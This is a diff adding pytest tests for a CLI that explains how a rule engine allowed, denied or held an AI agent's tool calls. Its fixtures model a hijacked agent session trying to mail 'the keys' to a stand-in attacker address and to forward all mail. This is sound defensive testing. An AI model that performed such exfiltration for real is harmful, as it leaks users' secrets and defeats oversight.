@@ -1,0 +1,198 @@
+"""`stoplog rules explain`: which intent is meant, and what is shown of it."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from streams.app.catalogue_files import read_catalogue
+from streams.app.clock import SystemClock
+from streams.app.explaining import explain_from_log
+from streams.app.operator import Operator
+from streams.app.settings import load_settings
+from streams.app.wiring import load_root_key
+from streams.codec.history import parse_line
+from streams.model.topics import BY_NAME, VERDICT
+from tests.unit.cli.conftest import Result, Stoplog
+
+HISTORIES = Path(__file__).parents[2] / "golden" / "try"
+HISTORY = ("--history", str(HISTORIES / "hijacked.jsonl"), "--catalog", str(HISTORIES / "catalog.jsonl"))
+RULES = str(Path(__file__).parents[3] / "rules")
+
+
+def of_kind(result: Result, kind: str) -> list[dict[str, Any]]:
+    return [record for record in result.records if record["kind"] == kind]
+
+
+def parts(condition: dict[str, Any]) -> dict[str, str]:
+    """Texts and values of a condition and all its parts."""
+    inner = [found for part in condition.get("parts", ()) for found in parts(part).items()]
+    return {condition["text"]: condition["value"], **dict(inner)}
+
+
+class TestHistory:
+    def test_every_rule_says_what_it_says(self, stoplog: Stoplog) -> None:
+        result = stoplog("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate")
+        assert (result.status, result.err) == (0, "")
+        (intent,) = of_kind(result, "intent")
+        assert (intent["tool"], intent["session"], intent["place"]) == ("mail/send", "s-2", "line 5")
+        (judgement,) = of_kind(result, "judgement")
+        assert (judgement["effect"], judgement["reason"]) == ("DENY", "rule_denied")
+        rules = {record["rule"]: record for record in of_kind(result, "rule")}
+        assert rules["MAIL-010"]["outcome"] == "true"
+        assert rules["MAIL-010"]["place"].startswith("email/email.rules.yaml:")
+        assert parts(rules["MAIL-010"]["condition"])["session.tainted"] == "true"
+        assert rules["BASE-030"]["condition"]["parts"] == [{"text": "session.risk", "value": "0"}]
+        assert (rules["GIT-001"]["outcome"], rules["GIT-001"]["condition"]) == ("not for this tool", None)
+        (verdict,) = of_kind(result, "verdict")
+        assert (verdict["outcome"], verdict["digest"]) == ("DENY", judgement["digest"])
+
+    def test_what_is_sensitive_is_left_out_unless_asked_for(self, stoplog: Stoplog) -> None:
+        asked = ("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate")
+        for more in ((), ("--no-json",), ("--no-json", "-v")):
+            assert "drop@evil" not in stoplog(*asked, *more).out
+        assert "drop@evil.example" in stoplog(*asked, "--reveal", "--no-json").out
+
+    def test_a_person_sees_what_decided(self, stoplog: Stoplog) -> None:
+        asked = ("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate", "--no-json")
+        shown = stoplog(*asked).out.splitlines()
+        assert shown[0].startswith("mail/send by helper for bob, session s-2, line 5, 2025-11-25T09:00:03")
+        assert shown[3].startswith("rules: DENY rule_denied: the session has read untrusted data")
+        at = next(index for index, line in enumerate(shown) if line.startswith("TRUE MAIL-010 deny: "))
+        assert shown[at + 1 : at + 3] == ["└── all of = true", "    ├── session.tainted = true"]
+        base = next(index for index, line in enumerate(shown) if line.startswith("FALSE BASE-021"))
+        assert shown[base + 2 : base + 4] == [
+            "    ├── has(session.purpose) = false",
+            "    └── !session.tainted = false",
+        ]
+        assert any(line.startswith("not for this tool: GIT-001") for line in shown)
+        assert shown[-1].startswith("verdict: DENY rule_denied: ")
+        assert len(stoplog(*asked, "-v").out) > len(stoplog(*asked).out)
+
+    def test_one_rule_only(self, stoplog: Stoplog) -> None:
+        asked = ("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate", "--rule", "BASE-030")
+        assert [record["rule"] for record in of_kind(stoplog(*asked), "rule")] == ["BASE-030"]
+        assert "MAIL-010" not in stoplog(*asked, "--no-json").out
+
+    def test_by_line_and_by_the_beginning_of_the_id(self, stoplog: Stoplog) -> None:
+        by_line = stoplog("rules", "explain", RULES, *HISTORY, "--line", "5")
+        (intent,) = of_kind(by_line, "intent")
+        by_id = stoplog("rules", "explain", RULES, *HISTORY, "--intent", intent["intent"][:6])
+        assert by_id.out == by_line.out
+
+    def test_by_default_the_historys_own_rules_or_the_starter_rules(self, stoplog: Stoplog) -> None:
+        result = stoplog("rules", "explain", *HISTORY, "--intent", "exfiltrate")
+        assert of_kind(result, "judgement")[0]["bundle"] == "starter"
+
+    def test_it_must_be_told_which(self, stoplog: Stoplog) -> None:
+        result = stoplog("rules", "explain", RULES, *HISTORY)
+        assert result.status == 1
+        assert "holds 9 intents; say which one by `--intent`" in result.err
+        assert "mail/forward_all at 2025-11-25T09:00:04.000Z" in result.err
+        assert "holds no intent `nobody`" in stoplog("rules", "explain", *HISTORY, "--intent", "nobody").err
+        assert "holds no intent in line 4" in stoplog("rules", "explain", *HISTORY, "--line", "4").err
+
+    def test_an_intent_that_the_rules_never_saw(self, stoplog: Stoplog) -> None:
+        result = stoplog("rules", "explain", RULES, *HISTORY, "--line", "6", "--no-json")
+        assert result.status == 0
+        assert "the rules were not asked: something before them decided" in result.out
+        assert "verdict: DENY tool_not_approved" in result.out
+
+    def test_an_intent_that_is_judged_twice(self, stoplog: Stoplog, home: Path) -> None:
+        """Held for a person, then approved: the second time the facts have the approval."""
+        (home / "rules" / "p").mkdir(parents=True)
+        (home / "rules" / "bundle.yaml").write_text('apiVersion: rules/v1\nbundle: b\nversion: "1"\n')
+        (home / "rules" / "p" / "p.rules.yaml").write_text(
+            "apiVersion: rules/v1\npack: p\nrules:\n"
+            '  - {id: P-1, effect: permit, match: {tools: ["*"]}, when: session.risk < 3, reason: calm}\n'
+            "  - {id: A-1, effect: require_approval, match: {tools: [mail.send]}, when: has(args.to),"
+            " approval: {group: leads}, reason: ask}\n"
+        )
+        lines = (HISTORIES / "hijacked.jsonl").read_text().splitlines()[1:]
+        value = {
+            "intent_id": "exfiltrate",
+            "status": "APPROVED",
+            "approver": {"iss": "https://issuer.example", "sub": "ann", "sub_profile": "USER"},
+            "approver_groups": ["leads"],
+            "args": {"to": "drop@evil.example", "body": "the keys"},
+        }
+        at = "2025-11-25T09:00:03.500Z"
+        approved = {"record": "approval_decision", "key": "acme|s-2", "time_ms": at, "value": value}
+        (home / "h.jsonl").write_text("\n".join([*lines[:4], json.dumps(approved)]) + "\n")
+        result = stoplog(
+            "rules", "explain", "rules", "--history", "h.jsonl", "--catalog", HISTORY[3], "--intent", "exfiltrate"
+        )
+        assert [record["effect"] for record in of_kind(result, "judgement")] == ["REQUIRE_APPROVAL", "ALLOW"]
+        assert of_kind(result, "intent")[0]["times_judged"] == 2
+
+
+class TestLog:
+    @pytest.fixture
+    def deployed(self, stoplog: Stoplog, monkeypatch: pytest.MonkeyPatch) -> Stoplog:
+        monkeypatch.setenv("STOPLOG_RULES__ALLOW_UNSIGNED", "true")
+        for command in (
+            ("topics", "apply"),
+            ("keys", "new"),
+            ("catalog", "publish", HISTORY[3]),
+            ("rules", "publish", RULES),
+        ):
+            result = stoplog(*command)
+            assert result.status == 0, result.err
+        settings = load_settings()
+        with Operator(settings, "ann") as operator:
+            now_ms = operator.clock.now_ms()
+            (entry,) = [each for each in read_catalogue(Path(HISTORY[3]), 0, "t", "") if each.name == "send"]
+            act = {"iss": "https://issuer.example", "sub": "helper"}
+            opened = {"type": "SESSION_ESTABLISHED", "sub": "bob", "act": act, "scopes": ["mail:send"]}
+            tool = {"server_id": "mail", "name": "send", "definition_digest": entry.definition_digest.hex()}
+            asked = {"sub": "bob", "act": act, "tool": tool, "args": {"to": "x@evil.example", "body": "b"}}
+            values = (
+                ("session_event", {**opened, "expires": now_ms + 10**7}),
+                ("intent", {**asked, "intent_id": "first"}),
+                ("intent", {**asked, "intent_id": "second"}),
+            )
+            for number, (kind, value) in enumerate(values):
+                line = {"record": kind, "key": "default|s-9", "time_ms": now_ms, "value": value}
+                made = parse_line(json.dumps(line), number + 1, "t", load_root_key(settings.key_path))
+                operator.write(BY_NAME[made.topic], [(made.key, made.record, made.record.header)])
+        return stoplog
+
+    def test_an_intent_of_the_log(self, deployed: Stoplog) -> None:
+        result = deployed("rules", "explain", "--intent", "second")
+        assert (result.status, result.err) == (0, "")
+        assert of_kind(result, "intent")[0]["place"].startswith("the embedded log")
+        (judgement,) = of_kind(result, "judgement")
+        assert (judgement["bundle"], judgement["effect"]) == ("starter", "ALLOW")
+        assert of_kind(result, "recorded_verdict") == []
+        rules = {record["rule"]: record for record in of_kind(result, "rule")}
+        assert rules["MAIL-002"]["outcome"] == "true"
+
+    def test_the_verdict_that_was_given_stands_beside_it(self, deployed: Stoplog, home: Path) -> None:
+        settings = load_settings()
+        clock, key = SystemClock(), load_root_key(settings.key_path)
+        (verdict,) = explain_from_log(settings, clock, key, intent="first").verdicts
+        with Operator(settings, "gate") as operator:
+            operator.write(VERDICT, [(b"default|s-9", verdict, verdict.header)])
+        (recorded,) = of_kind(deployed("rules", "explain", "--intent", "first"), "recorded_verdict")
+        assert (recorded["outcome"], recorded["digest"]) == ("ALLOW", (verdict.ruleset_digest or b"").hex())
+        assert "under other rules" not in deployed("rules", "explain", "--intent", "first", "--no-json").out
+        (home / "other").mkdir()
+        (home / "other" / "bundle.yaml").write_text('apiVersion: rules/v1\nbundle: other\nversion: "2"\n')
+        shown = deployed("rules", "explain", "other", "--intent", "first", "--no-json").out.splitlines()[-1]
+        assert shown.startswith("verdict on the log: ALLOW permitted: ")
+        assert f", under other rules: {recorded['digest'][:12]}" in shown
+
+    def test_other_rules_than_those_that_were_published(self, deployed: Stoplog, home: Path) -> None:
+        (home / "other").mkdir()
+        (home / "other" / "bundle.yaml").write_text('apiVersion: rules/v1\nbundle: other\nversion: "2"\n')
+        (judgement,) = of_kind(deployed("rules", "explain", "other", "--intent", "first"), "judgement")
+        assert (judgement["bundle"], judgement["effect"], judgement["reason"]) == ("other", "DENY", "no_permit")
+
+    def test_what_is_missing(self, deployed: Stoplog) -> None:
+        assert "holds no intent `nobody`" in deployed("rules", "explain", "--intent", "nobody").err
+        result = deployed("rules", "explain")
+        assert result.status == 2
+        assert "name the intent, or a history" in result.err
